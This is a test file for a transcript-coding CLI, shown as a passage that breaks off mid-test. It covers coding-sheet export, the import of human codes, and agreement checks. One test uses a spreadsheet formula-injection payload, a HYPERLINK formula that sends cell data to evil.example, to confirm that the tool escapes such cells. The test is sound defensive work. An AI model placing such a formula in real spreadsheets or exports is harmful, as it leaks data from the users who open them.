import { readFile, rm, writeFile } from "node:fs/promises";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { AgreementReport } from "../../src/analysis/agreement/agree.js";
import { checkCodeCurrency } from "../../src/coding/currency.js";
import { readCodeHistory, readCodes } from "../../src/coding/store.js";
import { loadSessions, saveSession } from "../../src/study/study.js";
import { turnFingerprint } from "../../src/transcript/fingerprint.js";
import { runCli } from "../support/cli.js";
import { CODEABLE_PER_SESSION, humanCodingStudy, readSheet, writeSheet } from "./human-coding-study.js";

/**
 * The human coding round trip: sample -> sheet -> fill in -> codes import -> agree, and the ways a
 * filled sheet can be wrong (edited transcripts, unknown labels, conflicting rows, Excel's files).
 */

const CODES = ["agrees", "Gives opinion", "8", "gives-suggestion", "Disagrees"];

let dir: string;
let study: string;
beforeEach(async () => {
  ({ dir, study } = await humanCodingStudy({ humanCoders: ["human:alice", "human:bob"] }));
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe("colloquy sheet", () => {
  it("writes one row per codeable turn with context, fingerprint, a code column per coder and the legend", async () => {
    const out = join(dir, "sheet.csv");
    const run = await runCli(["sheet", study, "--codebook", "bales-ipa", "--out", out]);
    expect(run.stderr).toBe("");
    expect(run.code).toBe(0);
    expect(run.stdout).toContain(`Wrote ${4 * CODEABLE_PER_SESSION} turn(s) to code to ${out} (fill in code_alice, code_bob)`);
    expect(run.stdout).toContain("not on the sheet (never coded): system 4, reasoning 4, empty 4");
    const sheet = await readSheet(out);
    expect(sheet.fields).toEqual([
      "session",
      "turn",
      "index",
      "speaker",
      "speaker_kind",
      "before_2",
      "before_1",
      "text",
      "after_1",
      "after_2",
      "fingerprint",
      "code_alice",
      "code_bob",
      "notes",
    ]);
    // No condition column: coders should not know which condition a turn comes from.
    expect(sheet.fields).not.toContain("condition");
    const sessions = await loadSessions(study);
    const s = sessions.find((x) => x.id === "control-1")!;
    const rows = sheet.rows.filter((r) => r.session === "control-1");
    // System, reasoning and empty turns are not on the sheet (as for the machine coders).
    expect(rows.map((r) => r.turn)).toEqual(["t0001", "t0002", "t0003", "t0005", "t0006", "t0007", "t0009", "t0010"]);
    const row = rows.find((r) => r.turn === "t0005")!;
    expect(row).toMatchObject({
      index: "5",
      speaker: "Bot",
      speaker_kind: "ai",
      text: s.turns[5].text,
      fingerprint: `'${turnFingerprint(s.turns[5])}`,
      code_alice: "",
      code_bob: "",
    });
    // Context is every neighbouring turn, as the LLM coder sees it, with its type when not a message.
    expect(row.before_1).toBe("Bot [reasoning]: private: they want to save money");
    expect(row.before_2).toBe(`Ben: ${s.turns[3].text}`);
    expect(row.after_1).toBe(`Ana: ${s.turns[6].text}`);
    // Text with quotes, commas, a semicolon and a line break survives verbatim.
    expect(rows.at(-1)!.text).toBe(s.turns[10].text);
    expect(rows[0].before_1).toBe("Slack [system]: Ana joined the channel");
    expect(rows[0].before_2).toBe("");

    const legend = await readSheet(join(dir, "sheet.legend.csv"));
    expect(legend.fields).toEqual(["kind", "id", "point", "label", "definition", "examples"]);
    expect(legend.rows[0]).toMatchObject({ kind: "codebook", id: "bales-ipa", point: "1.0.0" });
    expect(legend.rows.filter((r) => r.kind === "category").map((r) => r.id)).toHaveLength(13);
    expect(legend.rows.find((r) => r.id === "gives-opinion")).toMatchObject({ label: "Gives opinion" });
    expect(legend.rows.find((r) => r.id === "gives-opinion")!.definition).toContain("Also accepted: 5");
  });

  it("takes --coders, --context, --sessions and --excel; the legend of a scales codebook lists every anchor", async () => {
    const out = join(dir, "style.csv");
    const run = await runCli([
      "sheet",
      study,
      "--codebook",
      "pragmatic-style",
      "--coders",
      "carol",
      "--context",
      "1:0",
      "--sessions",
      "ai-led-2",
      "--excel",
      "--out",
      out,
    ]);
    expect(run.code).toBe(0);
    const raw = await readFile(out, "utf8");
    expect(raw.startsWith("\uFEFF")).toBe(true);
    const sheet = await readSheet(out);
    expect(sheet.rows).toHaveLength(CODEABLE_PER_SESSION);
    expect(new Set(sheet.rows.map((r) => r.session))).toEqual(new Set(["ai-led-2"]));
    expect(sheet.fields).toEqual([
      "session",
      "turn",
      "index",
      "speaker",
      "speaker_kind",
      "before_1",
      "text",
      "fingerprint",
      "code_carol_sentiment",
      "code_carol_formality",
      "code_carol_directness",
      "code_carol_relationship",
      "code_carol_participation",
      "notes",
    ]);
    const legend = await readSheet(join(dir, "style.legend.csv"));
    const anchors = legend.rows.filter((r) => r.kind === "anchor" && r.id === "sentiment");
    expect(anchors.map((r) => r.point)).toEqual(["1", "2", "3", "4", "5", "6", "7"]);
    expect(legend.rows.find((r) => r.kind === "scale" && r.id === "sentiment")).toMatchObject({ point: "1-7", label: "Sentiment" });
  });

  it("fails clearly on an unknown session and a bad --context", async () => {
    const out = join(dir, "x.csv");
    const unknown = await runCli(["sheet", study, "--codebook", "bales-ipa", "--sessions", "nope", "--out", out]);
    expect(unknown.code).toBe(1);
    expect(unknown.stderr).toContain("--sessions nope: no session of the study has this");
    const context = await runCli(["sheet", study, "--codebook", "bales-ipa", "--context", "two", "--out", out]);
    expect(context.code).toBe(1);
    expect(context.stderr).toContain("--context must look like 2:2");
    expect(existsSync(out)).toBe(false);
  });

  it("--sample: rows naming a turn that changed since the sample was drawn, or no turn, are left out and named by line", async () => {
    const sample = join(dir, "sample.csv");
    expect((await runCli(["sample", study, "--size", "6", "--seed", "2", "--out", sample])).code).toBe(0);
    const drawn = await readSheet(sample);
    // The session of the first sampled turn is edited on disk: that turn's words change.
    const [session] = await loadSessions(study, [drawn.rows[0].session]);
    const turn = session.turns.find((t) => t.id === drawn.rows[0].turn)!;
    turn.text = turn.text + " (corrected)";
    await saveSession(study, session);
    drawn.rows[1].turn = "t0999";
    await writeSheet(sample, drawn);
    const out = join(dir, "sheet.csv");
    const run = await runCli(["sheet", study, "--codebook", "bales-ipa", "--sample", sample, "--out", out]);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain(`${sample}:2: turn ${drawn.rows[0].session}/${drawn.rows[0].turn} has changed since the sample was drawn`);
    expect(run.stderr).toContain(`${sample}:3: session ${drawn.rows[1].session} has no turn "t0999"`);
    expect((await readSheet(out)).rows.map((r) => r.turn)).toEqual(drawn.rows.slice(2).map((r) => r.turn));
  });
});

describe("coding sheets opened in a spreadsheet", () => {
  it("escapes text, context and speaker cells that would run as formulas; session files and export keep the words", async () => {
    const [session] = await loadSessions(study, ["control-1"]);
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    session.turns[1].text = formula; // Ana's turn
    session.turns[2].text = "-5 is what we have left"; // Bot
    session.turns[3].text = "\tindented"; // Ben
    session.participants.find((p) => p.id === "ana")!.name = "@Ana";
    await saveSession(study, session);
    const out = join(dir, "sheet.csv");
    expect((await runCli(["sheet", study, "--codebook", "bales-ipa", "--sessions", "control-1", "--coders", "alice", "--excel", "--out", out])).code).toBe(0);
    const sheet = await readSheet(out);
    const row = (turn: string) => sheet.rows.find((r) => r.turn === turn)!;
    expect(row("t0001")).toMatchObject({ speaker: "'@Ana", text: `'${formula}` });
    expect(row("t0002")).toMatchObject({ speaker: "Bot", text: "'-5 is what we have left", before_1: `'@Ana: ${formula}` });
    expect(row("t0003")).toMatchObject({ text: "'\tindented", before_1: "Bot: -5 is what we have left" });
    // No display cell starts a formula; an ordinary turn is untouched.
    for (const r of sheet.rows) for (const f of ["speaker", "before_2", "before_1", "text", "after_1", "after_2"]) expect(r[f]).not.toMatch(/^[=+\-@\t\r]/);
    expect(row("t0005").text).toBe(session.turns[5].text);
    const legend = await readSheet(join(dir, "sheet.legend.csv"));
    expect(legend.rows[0].definition).toContain("starts with an added ' so the spreadsheet shows it as text");

    // codes import never reads those cells: the filled sheet imports, codes on the right turns.
    sheet.rows.forEach((r) => (r.code_alice = "agrees"));
    await writeSheet(out, sheet, { bom: true });
    const run = await runCli(["codes", "import", out, "--study", study, "--codebook", "bales-ipa", "--coder", "human:alice"]);
    expect(run.stderr).toBe("");
    expect(run.code).toBe(0);
    const records = await readCodes(study, "bales-ipa", "human:alice");
    expect(records).toHaveLength(CODEABLE_PER_SESSION);
    expect(checkCodeCurrency(records, await loadSessions(study)).withheld).toEqual([]);

    // The session and the export keep the words verbatim.
    expect((await loadSessions(study, ["control-1"]))[0].turns[1].text).toBe(formula);
    const exported = join(dir, "turns.csv");
    expect((await runCli(["export", study, "--format", "csv", "--out", exported])).code).toBe(0);
    const turns = (await readSheet(exported)).rows.filter((r) => r.session === "control-1");
    expect(turns.find((r) => r.turn === "t0001")!.text).toBe(formula);
    expect(turns.find((r) => r.turn === "t0003")!.text).toBe("\tindented");
  });

  it("an all-digit fingerprint is written as text ('…) and round-trips through codes import, with or without the '", async () => {
    const [session] = await loadSessions(study, ["control-1"]);
    // Words whose fingerprint is all digits: Excel would read 1234567890123456 as 1.23457E+15.
    let n = 0;
    while (!/^\d{16}$/.test(turnFingerprint({ speaker: "ana", text: `Point number ${n}.` }))) n++;
    session.turns[1].text = `Point number ${n}.`;
    await saveSession(study, session);
    const digits = turnFingerprint(session.turns[1]);
    const out = join(dir, "sheet.csv");
    expect((await runCli(["sheet", study, "--codebook", "bales-ipa", "--sessions", "control-1", "--coders", "alice", "--excel", "--out", out])).code).toBe(0);
    const sheet = await readSheet(out);
    expect(sheet.rows.find((r) => r.turn === "t0001")!.fingerprint).toBe(`'${digits}`);
    expect(sheet.rows.every((r) => r.fingerprint.startsWith("'"))).toBe(true);

    // Excel keeps a leading ' as part of the text and saves it back: imported as is.
    sheet.rows.forEach((r) => (r.code_alice = "agrees"));
    await writeSheet(out, sheet, { delimiter: ";", bom: true, sepLine: true });
    const run = await runCli(["codes", "import", out, "--study", study, "--codebook", "bales-ipa", "--coder", "human:alice", "--json"]);
    expect(run.code).toBe(0);
    expect(JSON.parse(run.stdout)).toMatchObject({ stored: CODEABLE_PER_SESSION, problems: [] });
    expect((await readCodes(study, "bales-ipa", "human:alice")).find((r) => r.turn === "t0001")!.fingerprint).toBe(digits);

    // A program that drops the ' (and sheets made before it was written) import the same.
    sheet.rows.forEach((r) => (r.fingerprint = r.fingerprint.slice(1)));
    await writeSheet(out, sheet);
    const bare = await runCli(["codes", "import", out, "--study", study, "--codebook", "bales-ipa", "--coder", "human:alice", "--json"]);
    expect(bare.code).toBe(0);
    expect(JSON.parse(bare.stdout)).toMatchObject({ stored: CODEABLE_PER_SESSION, problems: [] });

    // A fingerprint that no longer matches is still refused, prefix or not.
    sheet.rows[1].fingerprint = "'0000000000000000";
    await writeSheet(out, sheet);
    const changed = await runCli(["codes", "import", out, "--study", study, "--codebook", "bales-ipa", "--coder", "human:alice", "--json"]);
    expect(JSON.parse(changed.stdout)).toMatchObject({ refused: { "turn-changed": 1 } });
  });
});

describe("human coding round trip", () => {
  it("sample -> sheet -> fill in -> codes import (two coders) -> agree sees both coders on the same turns", async () => {
    const sample = join(dir, "sample.csv");
    const sampled = await runCli(["sample", study, "--size", "50%", "--stratify", "condition", "--seed", "7", "--out", sample]);
    expect(sampled.stderr).toBe("");
    expect(sampled.code).toBe(0);
    expect(sampled.stdout).toContain("Sampled 16 of 32 codeable turn(s) (seed 7)");

    const out = join(dir, "sheet.csv");
    expect((await runCli(["sheet", study, "--codebook", "bales-ipa", "--sample", sample, "--out", out])).code).toBe(0);
    const sheet = await readSheet(out);
    expect(sheet.rows).toHaveLength(16);
    // The coders disagree on every fourth row.
    sheet.rows.forEach((row, i) => {
      row.code_alice = CODES[i % CODES.length];
      row.code_bob = i % 4 === 3 ? "none" : CODES[i % CODES.length];
    });
    const filled = join(dir, "sheet-filled.csv");
    await writeSheet(filled, sheet);

    const alice = await runCli(["codes", "import", filled, "--study", study, "--codebook", "bales-ipa", "--coder", "human:alice"]);
    expect(alice.stderr).toBe("");
    expect(alice.code).toBe(0);
    expect(alice.stdout).toContain("human:alice / bales-ipa: 16 turn(s) coded from");
    const bob = await runCli(["codes", "import", filled, "--study", study, "--codebook", "bales-ipa", "--coder", "bob", "--json"]);
    expect(bob.code).toBe(0);
    expect(JSON.parse(bob.stdout)).toMatchObject({ coder: "human:bob", stored: 16, columns: { codes: "code_bob" }, problems: [] });

    // Attached to the existing sessions: none created, every code on the turn it was given.
    expect((await loadSessions(study)).map((s) => s.id).sort()).toEqual(["ai-led-1", "ai-led-2", "control-1", "control-2"]);
    const records = await readCodes(study, "bales-ipa", "human:alice");
    expect(records).toHaveLength(16);
    expect(checkCodeCurrency(records, await loadSessions(study)).withheld).toEqual([]);
    expect(records[0]).toMatchObject({ codebookVersion: "1.0.0", provenance: { via: "colloquy codes import", source: filled, line: 2, label: CODES[0] } });
    expect(records.map((r) => r.codes![0])).toContain("asks-opinion"); // "8" is Bales' category 8

    const agree = await runCli(["agree", study, "--codebook", "bales-ipa", "--coders", "human:alice,human:bob", "--bootstrap", "0"]);
    expect(agree.stderr).toBe("");
    expect(agree.code).toBe(0);
    const report = JSON.parse(await readFile(join(study, "analysis", "agreement-bales-ipa.json"), "utf8")) as AgreementReport;
    expect(report.coverage!.unitsCodedByAll).toBe(16);
    const pair = report.variables[0].pairs[0];
    expect(pair.n).toBe(16);
    expect(pair.agreement).toBeCloseTo(12 / 16, 12);
    expect(Number.isFinite(pair.kappa)).toBe(true);
  });

  it("codes import lists a new person under humanCoders in colloquy.json, once, so `colloquy study` compares the machine coders with them", async () => {
    const out = join(dir, "sheet.csv");
    expect((await runCli(["sheet", study, "--codebook", "bales-ipa", "--coders", "carol", "--out", out])).code).toBe(0);
    const sheet = await readSheet(out);
    sheet.rows.slice(0, 4).forEach((row) => (row.code_carol = "agrees"));
    await writeSheet(out, sheet);
    const config = async () => JSON.parse(await readFile(join(study, "colloquy.json"), "utf8")) as { humanCoders: string[]; version: number };
    const before = await config();
    const first = await runCli(["codes", "import", out, "--study", study, "--codebook", "bales-ipa", "--coder", "carol"]);
    expect(first.code).toBe(0);
    expect(first.stdout).toContain('human:carol is now listed under "humanCoders" in colloquy.json');
    expect(await config()).toEqual({ ...before, humanCoders: ["human:alice", "human:bob", "human:carol"] });
    const again = await runCli(["codes", "import", out, "--study", study, "--codebook", "bales-ipa", "--coder", "carol"]);
    expect(again.code).toBe(0);
    expect(again.stdout).not.toContain("is now listed");
    expect((await config()).humanCoders).toEqual(["human:alice", "human:bob", "human:carol"]);
    // Adjudicated codes are not listed (as in annotate): comparing them with the coders they settle is opt-in.
    const settled = await runCli(["codes", "import", out, "--study", study, "--codebook", "bales-ipa", "--coder", "adjudicated", "--column", "code_carol"]);
    expect(settled.code).toBe(0);
    expect((await config()).humanCoders).toEqual(["human:alice", "human:bob", "human:carol"]);
  });

  it("re-importing the same sheet replaces that file's codes only; other sources of the coder are kept", async () => {
    const first = join(dir, "a.csv");
    const second = join(dir, "b.csv");
    expect((await runCli(["sheet", study, "--codebook", "bales-ipa", "--sessions", "control-1", "--coders", "alice", "--out", first])).code).toBe(0);
    expect((await runCli(["sheet", study, "--codebook", "bales-ipa", "--sessions", "control-2", "--coders", "alice", "--out", second])).code).toBe(0);
    for (const file of [first, second]) {
      const sheet = await readSheet(file);
      for (const row of sheet.rows) row.code_alice = "agrees";
      await writeSheet(file, sheet);
      expect((await runCli(["codes", "import", file, "--study", study, "--codebook", "bales-ipa", "--coder", "human:alice"])).code).toBe(0);
    }
    const codesFile = join(study, "codes", "bales-ipa", "human%3Aalice.jsonl");
    const before = await readFile(codesFile, "utf8");
    expect(await readCodeHistory(study, "bales-ipa", "human:alice")).toHaveLength(2 * CODEABLE_PER_SESSION);

    // Same sheet again: nothing changes, byte for byte.
    const again = await runCli(["codes", "import", first, "--study", study, "--codebook", "bales-ipa", "--coder", "human:alice"]);
    expect(again.stdout).toContain(`${CODEABLE_PER_SESSION} unchanged since the last import`);
    expect(await readFile(codesFile, "utf8")).toBe(before);

    // The first sheet changed: one code changed, two cleared. The second sheet's codes stay.
    const sheet = await readSheet(first);
    sheet.rows[0].code_alice = "disagrees";
    sheet.rows[1].code_alice = "";
    sheet.rows[2].code_alice = "";
    await writeSheet(first, sheet);
    const changed = await runCli(["codes", "import", first, "--study", study, "--codebook", "bales-ipa", "--coder", "human:alice", "--json"]);
    expect(JSON.parse(changed.stdout)).toMatchObject({ stored: CODEABLE_PER_SESSION - 2, unchanged: CODEABLE_PER_SESSION - 3, removed: 2, empty: 2 });
    const records = await readCodes(study, "bales-ipa", "human:alice");
    expect(records.filter((r) => r.session === "control-2")).toHaveLength(CODEABLE_PER_SESSION);
    expect(records.filter((r) => r.session === "control-1")).toHaveLength(CODEABLE_PER_SESSION - 2);
    expect(records.find((r) => r.session === "control-1" && r.turn === "t0001")!.codes).toEqual(["disagrees"]);
  });

  it("a sheet made before an edited transcript was re-imported: rows whose turn changed are refused by line", async () => {
    const transcript = join(dir, "meeting.txt");
    const lines = [
      "Moderator: Welcome everyone.",
      "Ana: I agree with the proposal.",
      "Ben: This plan is terrible.",
      "Ana: Could you suggest an alternative?",
      "Ben: We could cut the travel costs.",
    ];
    await writeFile(transcript, lines.join("\n") + "\n");
    expect((await runCli(["import", transcript, "--study", study])).code).toBe(0);
    const sessionId = (await loadSessions(study)).map((s) => s.id).find((id) => id.includes("meeting"))!;
    const out = join(dir, "sheet.csv");
    expect((await runCli(["sheet", study, "--codebook", "bales-ipa", "--sessions", sessionId, "--coders", "alice", "--out", out])).code).toBe(0);

    // Meanwhile the transcript is corrected (line 3 edited) and re-imported.
    await writeFile(transcript, lines.map((l, i) => (i === 2 ? "Ben: This plan is fine." : l)).join("\n") + "\n");
    expect((await runCli(["import", transcript, "--study", study])).code).toBe(0);

    const sheet = await readSheet(out);
    sheet.rows.forEach((row) => (row.code_alice = "gives-opinion"));
    await writeSheet(out, sheet);
    const edited = sheet.rows.findIndex((r) => r.text === "This plan is terrible.");
    expect(edited).toBeGreaterThan(0);
    const run = await runCli(["codes", "import", out, "--study", study, "--codebook", "bales-ipa", "--coder", "human:alice"]);
    expect(run.code).toBe(1);
    // Ben's edited turn, reported by its line in the sheet (header = line 1).
    expect(run.stderr).toContain(`${out}:${edited + 2}: turn ${sessionId}/${sheet.rows[edited].turn} has changed since the sheet was made`);
    expect(run.stderr).toContain("1 row(s) of");
    const records = await readCodes(study, "bales-ipa", "human:alice");
    expect(records.map((r) => r.turn).sort()).toEqual(
      sheet.rows
        .filter((_, i) => i !== edited)
        .map((r) => r.turn)
        .sort(),
    );
    expect(checkCodeCurrency(records, await loadSessions(study)).withheld).toEqual([]);
  });

  it("a line added at the top shifts every turn: the rows are refused, naming where the words are now", async () => {
    const transcript = join(dir, "call.txt");
    const lines = ["Ana: First point.", "Ben: Second point."];
    await writeFile(transcript, lines.join("\n") + "\n");
    expect((await runCli(["import", transcript, "--study", study])).code).toBe(0);
    const sessionId = (await loadSessions(study)).map((s) => s.id).find((id) => id.includes("call"))!;
    const out = join(dir, "sheet.csv");
    expect((await runCli(["sheet", study, "--codebook", "bales-ipa", "--sessions", sessionId, "--coders", "alice", "--out", out])).code).toBe(0);
    await writeFile(transcript, ["Moderator: (recording started)", ...lines].join("\n") + "\n");
    expect((await runCli(["import", transcript, "--study", study])).code).toBe(0);
    const sheet = await readSheet(out);
    sheet.rows.forEach((row) => (row.code_alice = "gives-opinion"));
    await writeSheet(out, sheet);
    const run = await runCli(["codes", "import", out, "--study", study, "--codebook", "bales-ipa", "--coder", "human:alice"]);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain(
      `${out}:2: turn ${sessionId}/t0000 has changed since the sheet was made (its speaker or words differ); the words this row coded are now turn t0001`,
    );
    expect(run.stderr).toContain(`${out}:3: turn ${sessionId}/t0001 has changed`);
    expect(await readCodes(study, "bales-ipa", "human:alice")).toEqual([]);
  });

  it("codes that followed their words after an edited re-import are kept when the old sheet is imported again", async () => {
    const transcript = join(dir, "call.txt");
    const lines = ["Ana: First point.", "Ben: Second point.", "Cem: Third point."];
    await writeFile(transcript, lines.join("\n") + "\n");
    expect((await runCli(["import", transcript, "--study", study])).code).toBe(0);
    const sessionId = (await loadSessions(study)).map((s) => s.id).find((id) => id.includes("call"))!;
    const out = join(dir, "sheet.csv");
    expect((await runCli(["sheet", study, "--codebook", "bales-ipa", "--sessions", sessionId, "--coders", "alice", "--out", out])).code).toBe(0);
    const sheet = await readSheet(out);
    expect(sheet.rows).toHaveLength(3);
    sheet.rows.forEach((row, i) => (row.code_alice = ["agrees", "disagrees", "gives-opinion"][i]));
    await writeSheet(out, sheet);
    const coded = await runCli(["codes", "import", out, "--study", study, "--codebook", "bales-ipa", "--coder", "human:alice"]);
    expect(coded.code).toBe(0);

    // A line is added at the top and the transcript imported again: the codes follow their words.
    await writeFile(transcript, ["Dee: Hello all.", ...lines].join("\n") + "\n");
    expect((await runCli(["import", transcript, "--study", study])).code).toBe(0);
    // The words each code is on now.
    const words = async (records: { turn: string }[]) => {
      const session = (await loadSessions(study, [sessionId]))[0];
      return records.map((r) => session.turns.find((t) => t.id === r.turn)!.text).sort();
    };
    const moved = await readCodes(study, "bales-ipa", "human:alice");
    expect(moved.map((r) => r.turn).sort()).toEqual(["t0001", "t0002", "t0003"]);
    expect(await words(moved)).toEqual(["First point.", "Second point.", "Third point."]);

    // The old sheet again: every row is refused (its turn id names other words now), and the codes it
    // gave stay where their words went.
    const again = await runCli(["codes", "import", out, "--study", study, "--codebook", "bales-ipa", "--coder", "human:alice", "--json"]);
    expect(again.code).toBe(1);
    expect(JSON.parse(again.stdout)).toMatchObject({ stored: 0, removed: 0, followed: 3, refused: { "turn-changed": 3 } });
    expect(await readCodes(study, "bales-ipa", "human:alice")).toEqual(moved);

    // A row whose code was changed meanwhile no longer vouches for the old code: that one goes.
    sheet.rows[1].code_alice = "agrees";
    await writeSheet(out, sheet);
    const changed = await runCli(["codes", "import", out, "--study", study, "--codebook", "bales-ipa", "--coder", "human:alice", "--json"]);
    expect(JSON.parse(changed.stdout)).toMatchObject({ stored: 0, removed: 1, followed: 2 });
    const left = await readCodes(study, "bales-ipa", "human:alice");
    expect(await words(left)).toEqual(["First point.", "Third point."]);
    expect(checkCodeCurrency(left, await loadSessions(study)).withheld).toEqual([]);
  });
});

describe("colloquy codes import: what a filled sheet can get wrong", () => {
  async function sheetFor(session: string, coder = "alice"): Promise<{ path: string; sheet: Awaited<ReturnType<typeof readSheet>> }> {
    const path = join(dir, `${session}-${coder}.csv`);
    expect((await runCli(["sheet", study, "--codebook", "bales-ipa", "--sessions", session, "--coders", coder, "--out", path])).code).toBe(0);
    return { path, sheet: await readSheet(path) };
  }

  it("reports unknown labels, sessions and turns, and conflicting duplicate rows by line; counts empty cells; never guesses", async () => {
    const { path, sheet } = await sheetFor("control-1");
    sheet.rows.forEach((row) => (row.code_alice = "agrees"));
    sheet.rows[1].code_alice = "gives opinon"; // typo: line 3
    sheet.rows[2].code_alice = "agrees;gives-opinion"; // two codes, codebook allows one: line 4
    sheet.rows[3].code_alice = ""; // empty: line 5
    sheet.rows[4].session = "control-9"; // line 6
    sheet.rows[5].turn = "t0099"; // line 7
    // Duplicates: a repeat of row 0 with the same code (stored once) and one of row 6 with another.
    sheet.rows.push({ ...sheet.rows[0] }, { ...sheet.rows[6], code_alice: "disagrees" });
    await writeSheet(path, sheet);
    const run = await runCli(["codes", "import", path, "--study", study, "--codebook", "bales-ipa", "--coder", "human:alice", "--json"]);
    expect(run.code).toBe(1);
    const summary = JSON.parse(run.stdout);
    expect(summary).toMatchObject({
      rows: 10,
      stored: 2,
      empty: 1,
      duplicates: 1,
      refused: { "unknown-label": 2, "unknown-session": 1, "unknown-turn": 1, conflict: 2 },
    });
    expect(run.stderr).toContain(`${path}:3: unknown label "gives opinon": matches no category id, label or alias of codebook bales-ipa`);
    expect(run.stderr).toContain(`${path}:4: "agrees;gives-opinion" gives 2 codes, but codebook bales-ipa allows one per turn`);
    expect(run.stderr).toContain(`${path}:6: session "control-9" is not in the study (codes import never creates sessions`);
    expect(run.stderr).toContain(`${path}:7: session control-1 has no turn "t0099"`);
    // File lines, not row numbers: the last turn's text (and the context cell showing it) spans two lines.
    expect(run.stderr).toContain(`${path}:8: turn control-1/t0009 is coded differently on lines 8, 13; none of them was stored`);
    expect(run.stderr).toContain(`${path}:13: turn control-1/t0009 is coded differently on lines 8, 13`);
    const stored = await readCodes(study, "bales-ipa", "human:alice");
    expect(stored.map((r) => r.turn).sort()).toEqual(["t0001", "t0010"]);
    expect((await loadSessions(study)).map((s) => s.id)).not.toContain("control-9");
  });

  it("reads Excel's semicolon CSV with a byte-order mark and a sep= line", async () => {
    const { path, sheet } = await sheetFor("ai-led-1");
    sheet.rows.forEach((row) => (row.code_alice = "Gives suggestion"));
    await writeSheet(path, sheet, { delimiter: ";", bom: true, sepLine: true });
    expect((await readFile(path, "utf8")).startsWith("\uFEFFsep=;\r\n")).toBe(true);
    const run = await runCli(["codes", "import", path, "--study", study, "--codebook", "bales-ipa", "--coder", "human:alice"]);
    expect(run.stderr).toBe("");
    expect(run.code).toBe(0);
    const records = await readCodes(study, "bales-ipa", "human:alice");
    expect(records).toHaveLength(CODEABLE_PER_SESSION);
    // Lines count the sep= line: the first row is line 3.
    expect(records[0].provenance.line).toBe(3);
    expect(records.every((r) => r.codes![0] === "gives-suggestion")).toBe(true);

    // Same without the sep= line: the delimiter is detected from the header.
    await writeSheet(path, sheet, { delimiter: ";", bom: true });
    expect((await runCli(["codes", "import", path, "--study", study, "--codebook", "bales-ipa", "--coder", "human:alice"])).code).toBe(0);
    expect((await readCodes(study, "bales-ipa", "human:alice"))[0].provenance.line).toBe(2);
  });

  it("reads a column of an exported CSV keyed by session and index (no turn id): codes attach, sessions are not duplicated", async () => {
    const exported = join(dir, "turns.csv");
    expect((await runCli(["export", study, "--format", "csv", "--out", exported])).code).toBe(0);
    const table = await readSheet(exported);
    // What the researcher did: add a column "alice" to the export. Keep only session and index as keys.
    const fields = ["conversation", "row", "speaker", "text", "alice"];
    const rows = table.rows.map((r) => ({
      conversation: r.session,
      row: r.index,
      speaker: r.speaker,
      text: r.text,
      alice: r.kind === "system" || r.type === "reasoning" || r.text.trim() === "" ? "" : "5",
    }));
    const path = join(dir, "turns-alice.tsv");
    await writeSheet(path, { fields, rows }, { delimiter: "\t" });
    const run = await runCli([
      "codes",
      "import",
      path,
      "--study",
      study,
      "--codebook",
      "bales-ipa",
      "--coder",
      "human:alice",
      "--column",
      "alice",
      "--session-column",
      "conversation",
      "--index-column",
      "row",
    ]);
    expect(run.stderr).toBe("");
    expect(run.code).toBe(0);
    expect((await loadSessions(study)).map((s) => s.id).sort()).toEqual(["ai-led-1", "ai-led-2", "control-1", "control-2"]);
    const records = await readCodes(study, "bales-ipa", "human:alice");
    expect(records).toHaveLength(4 * CODEABLE_PER_SESSION);
    expect(records.every((r) => r.codes![0] === "gives-opinion" && r.fingerprint)).toBe(true);
    expect(checkCodeCurrency(records, await loadSessions(study)).withheld).toEqual([]);

    // An index past the end of a session, and a file without any turn key, are named.
    const coded = rows.findIndex((r) => r.alice !== "");
    rows[coded].row = "99";
    await writeSheet(path, { fields, rows }, { delimiter: "\t" });
    const bad = await runCli([
      "codes",
      "import",
      path,
      "--study",
      study,
      "--codebook",
      "bales-ipa",
      "--coder",
      "human:alice",
      "--column",
      "alice",
      "--session-column",
      "conversation",
      "--index-column",
      "row",
    ]);
    expect(bad.code).toBe(1);
    expect(bad.stderr).toContain(`${path}:${coded + 2}: session ${rows[coded].conversation} has no turn at index 99`);
    const nokey = await runCli([
      "codes",
      "import",
      path,
      "--study",
      study,
      "--codebook",
      "bales-ipa",
      "--coder",
      "human:alice",
      "--column",
      "alice",
      "--session-column",
      "conversation",
    ]);
    expect(nokey.code).toBe(1);
    expect(nokey.stderr).toContain("no turn or index column");
  });

  it("names a missing code column and refuses machine coder ids", async () => {
    const { path } = await sheetFor("control-1");
    const column = await runCli(["codes", "import", path, "--study", study, "--codebook", "bales-ipa", "--coder", "human:zoe"]);
    expect(column.code).toBe(1);
    expect(column.stderr).toContain('no column "code_zoe" in the file; name the column that holds human:zoe\'s codes with --column <name>');
    const machine = await runCli(["codes", "import", path, "--study", study, "--codebook", "bales-ipa", "--coder", "llm:gpt"]);
    expect(machine.code).toBe(1);
    expect(machine.stderr).toContain("stored as human:<name>");
  });

  it("rates scales codebooks: one column per scale (numbers or anchor text), ratings off the scale reported", async () => {
    const out = join(dir, "style.csv");
    expect(
      (await runCli(["sheet", study, "--codebook", "pragmatic-style", "--sessions", "control-1", "--coders", "alice,bob", "--context", "0", "--out", out]))
        .code,
    ).toBe(0);
    const sheet = await readSheet(out);
    sheet.rows.forEach((row, i) => {
      row.code_alice_sentiment = String(1 + (i % 7));
      row.code_alice_formality = "4";
      row.code_bob_sentiment = String(1 + ((i + (i % 3 === 0 ? 1 : 0)) % 7));
      row.code_bob_formality = i === 0 ? "" : "4";
    });
    sheet.rows[1].code_alice_formality = "Very informal: slang, chat abbreviations, emoji, no punctuation ('lol yeah nvm 😂').";
    sheet.rows[2].code_bob_sentiment = "9";
    await writeSheet(out, sheet);
    const alice = await runCli(["codes", "import", out, "--study", study, "--codebook", "pragmatic-style", "--coder", "human:alice", "--json"]);
    expect(alice.code).toBe(0);
    expect(JSON.parse(alice.stdout)).toMatchObject({
      stored: CODEABLE_PER_SESSION,
      columns: { sentiment: "code_alice_sentiment", formality: "code_alice_formality" },
    });
    const records = await readCodes(study, "pragmatic-style", "human:alice");
    expect(records.find((r) => r.turn === "t0002")!.scores).toEqual({ sentiment: 2, formality: 1 });

    const bob = await runCli([
      "codes",
      "import",
      out,
      "--study",
      study,
      "--codebook",
      "pragmatic-style",
      "--coder",
      "human:bob",
      "--column",
      "sentiment=code_bob_sentiment",
      "--column",
      "code_bob_formality",
      "--json",
    ]);
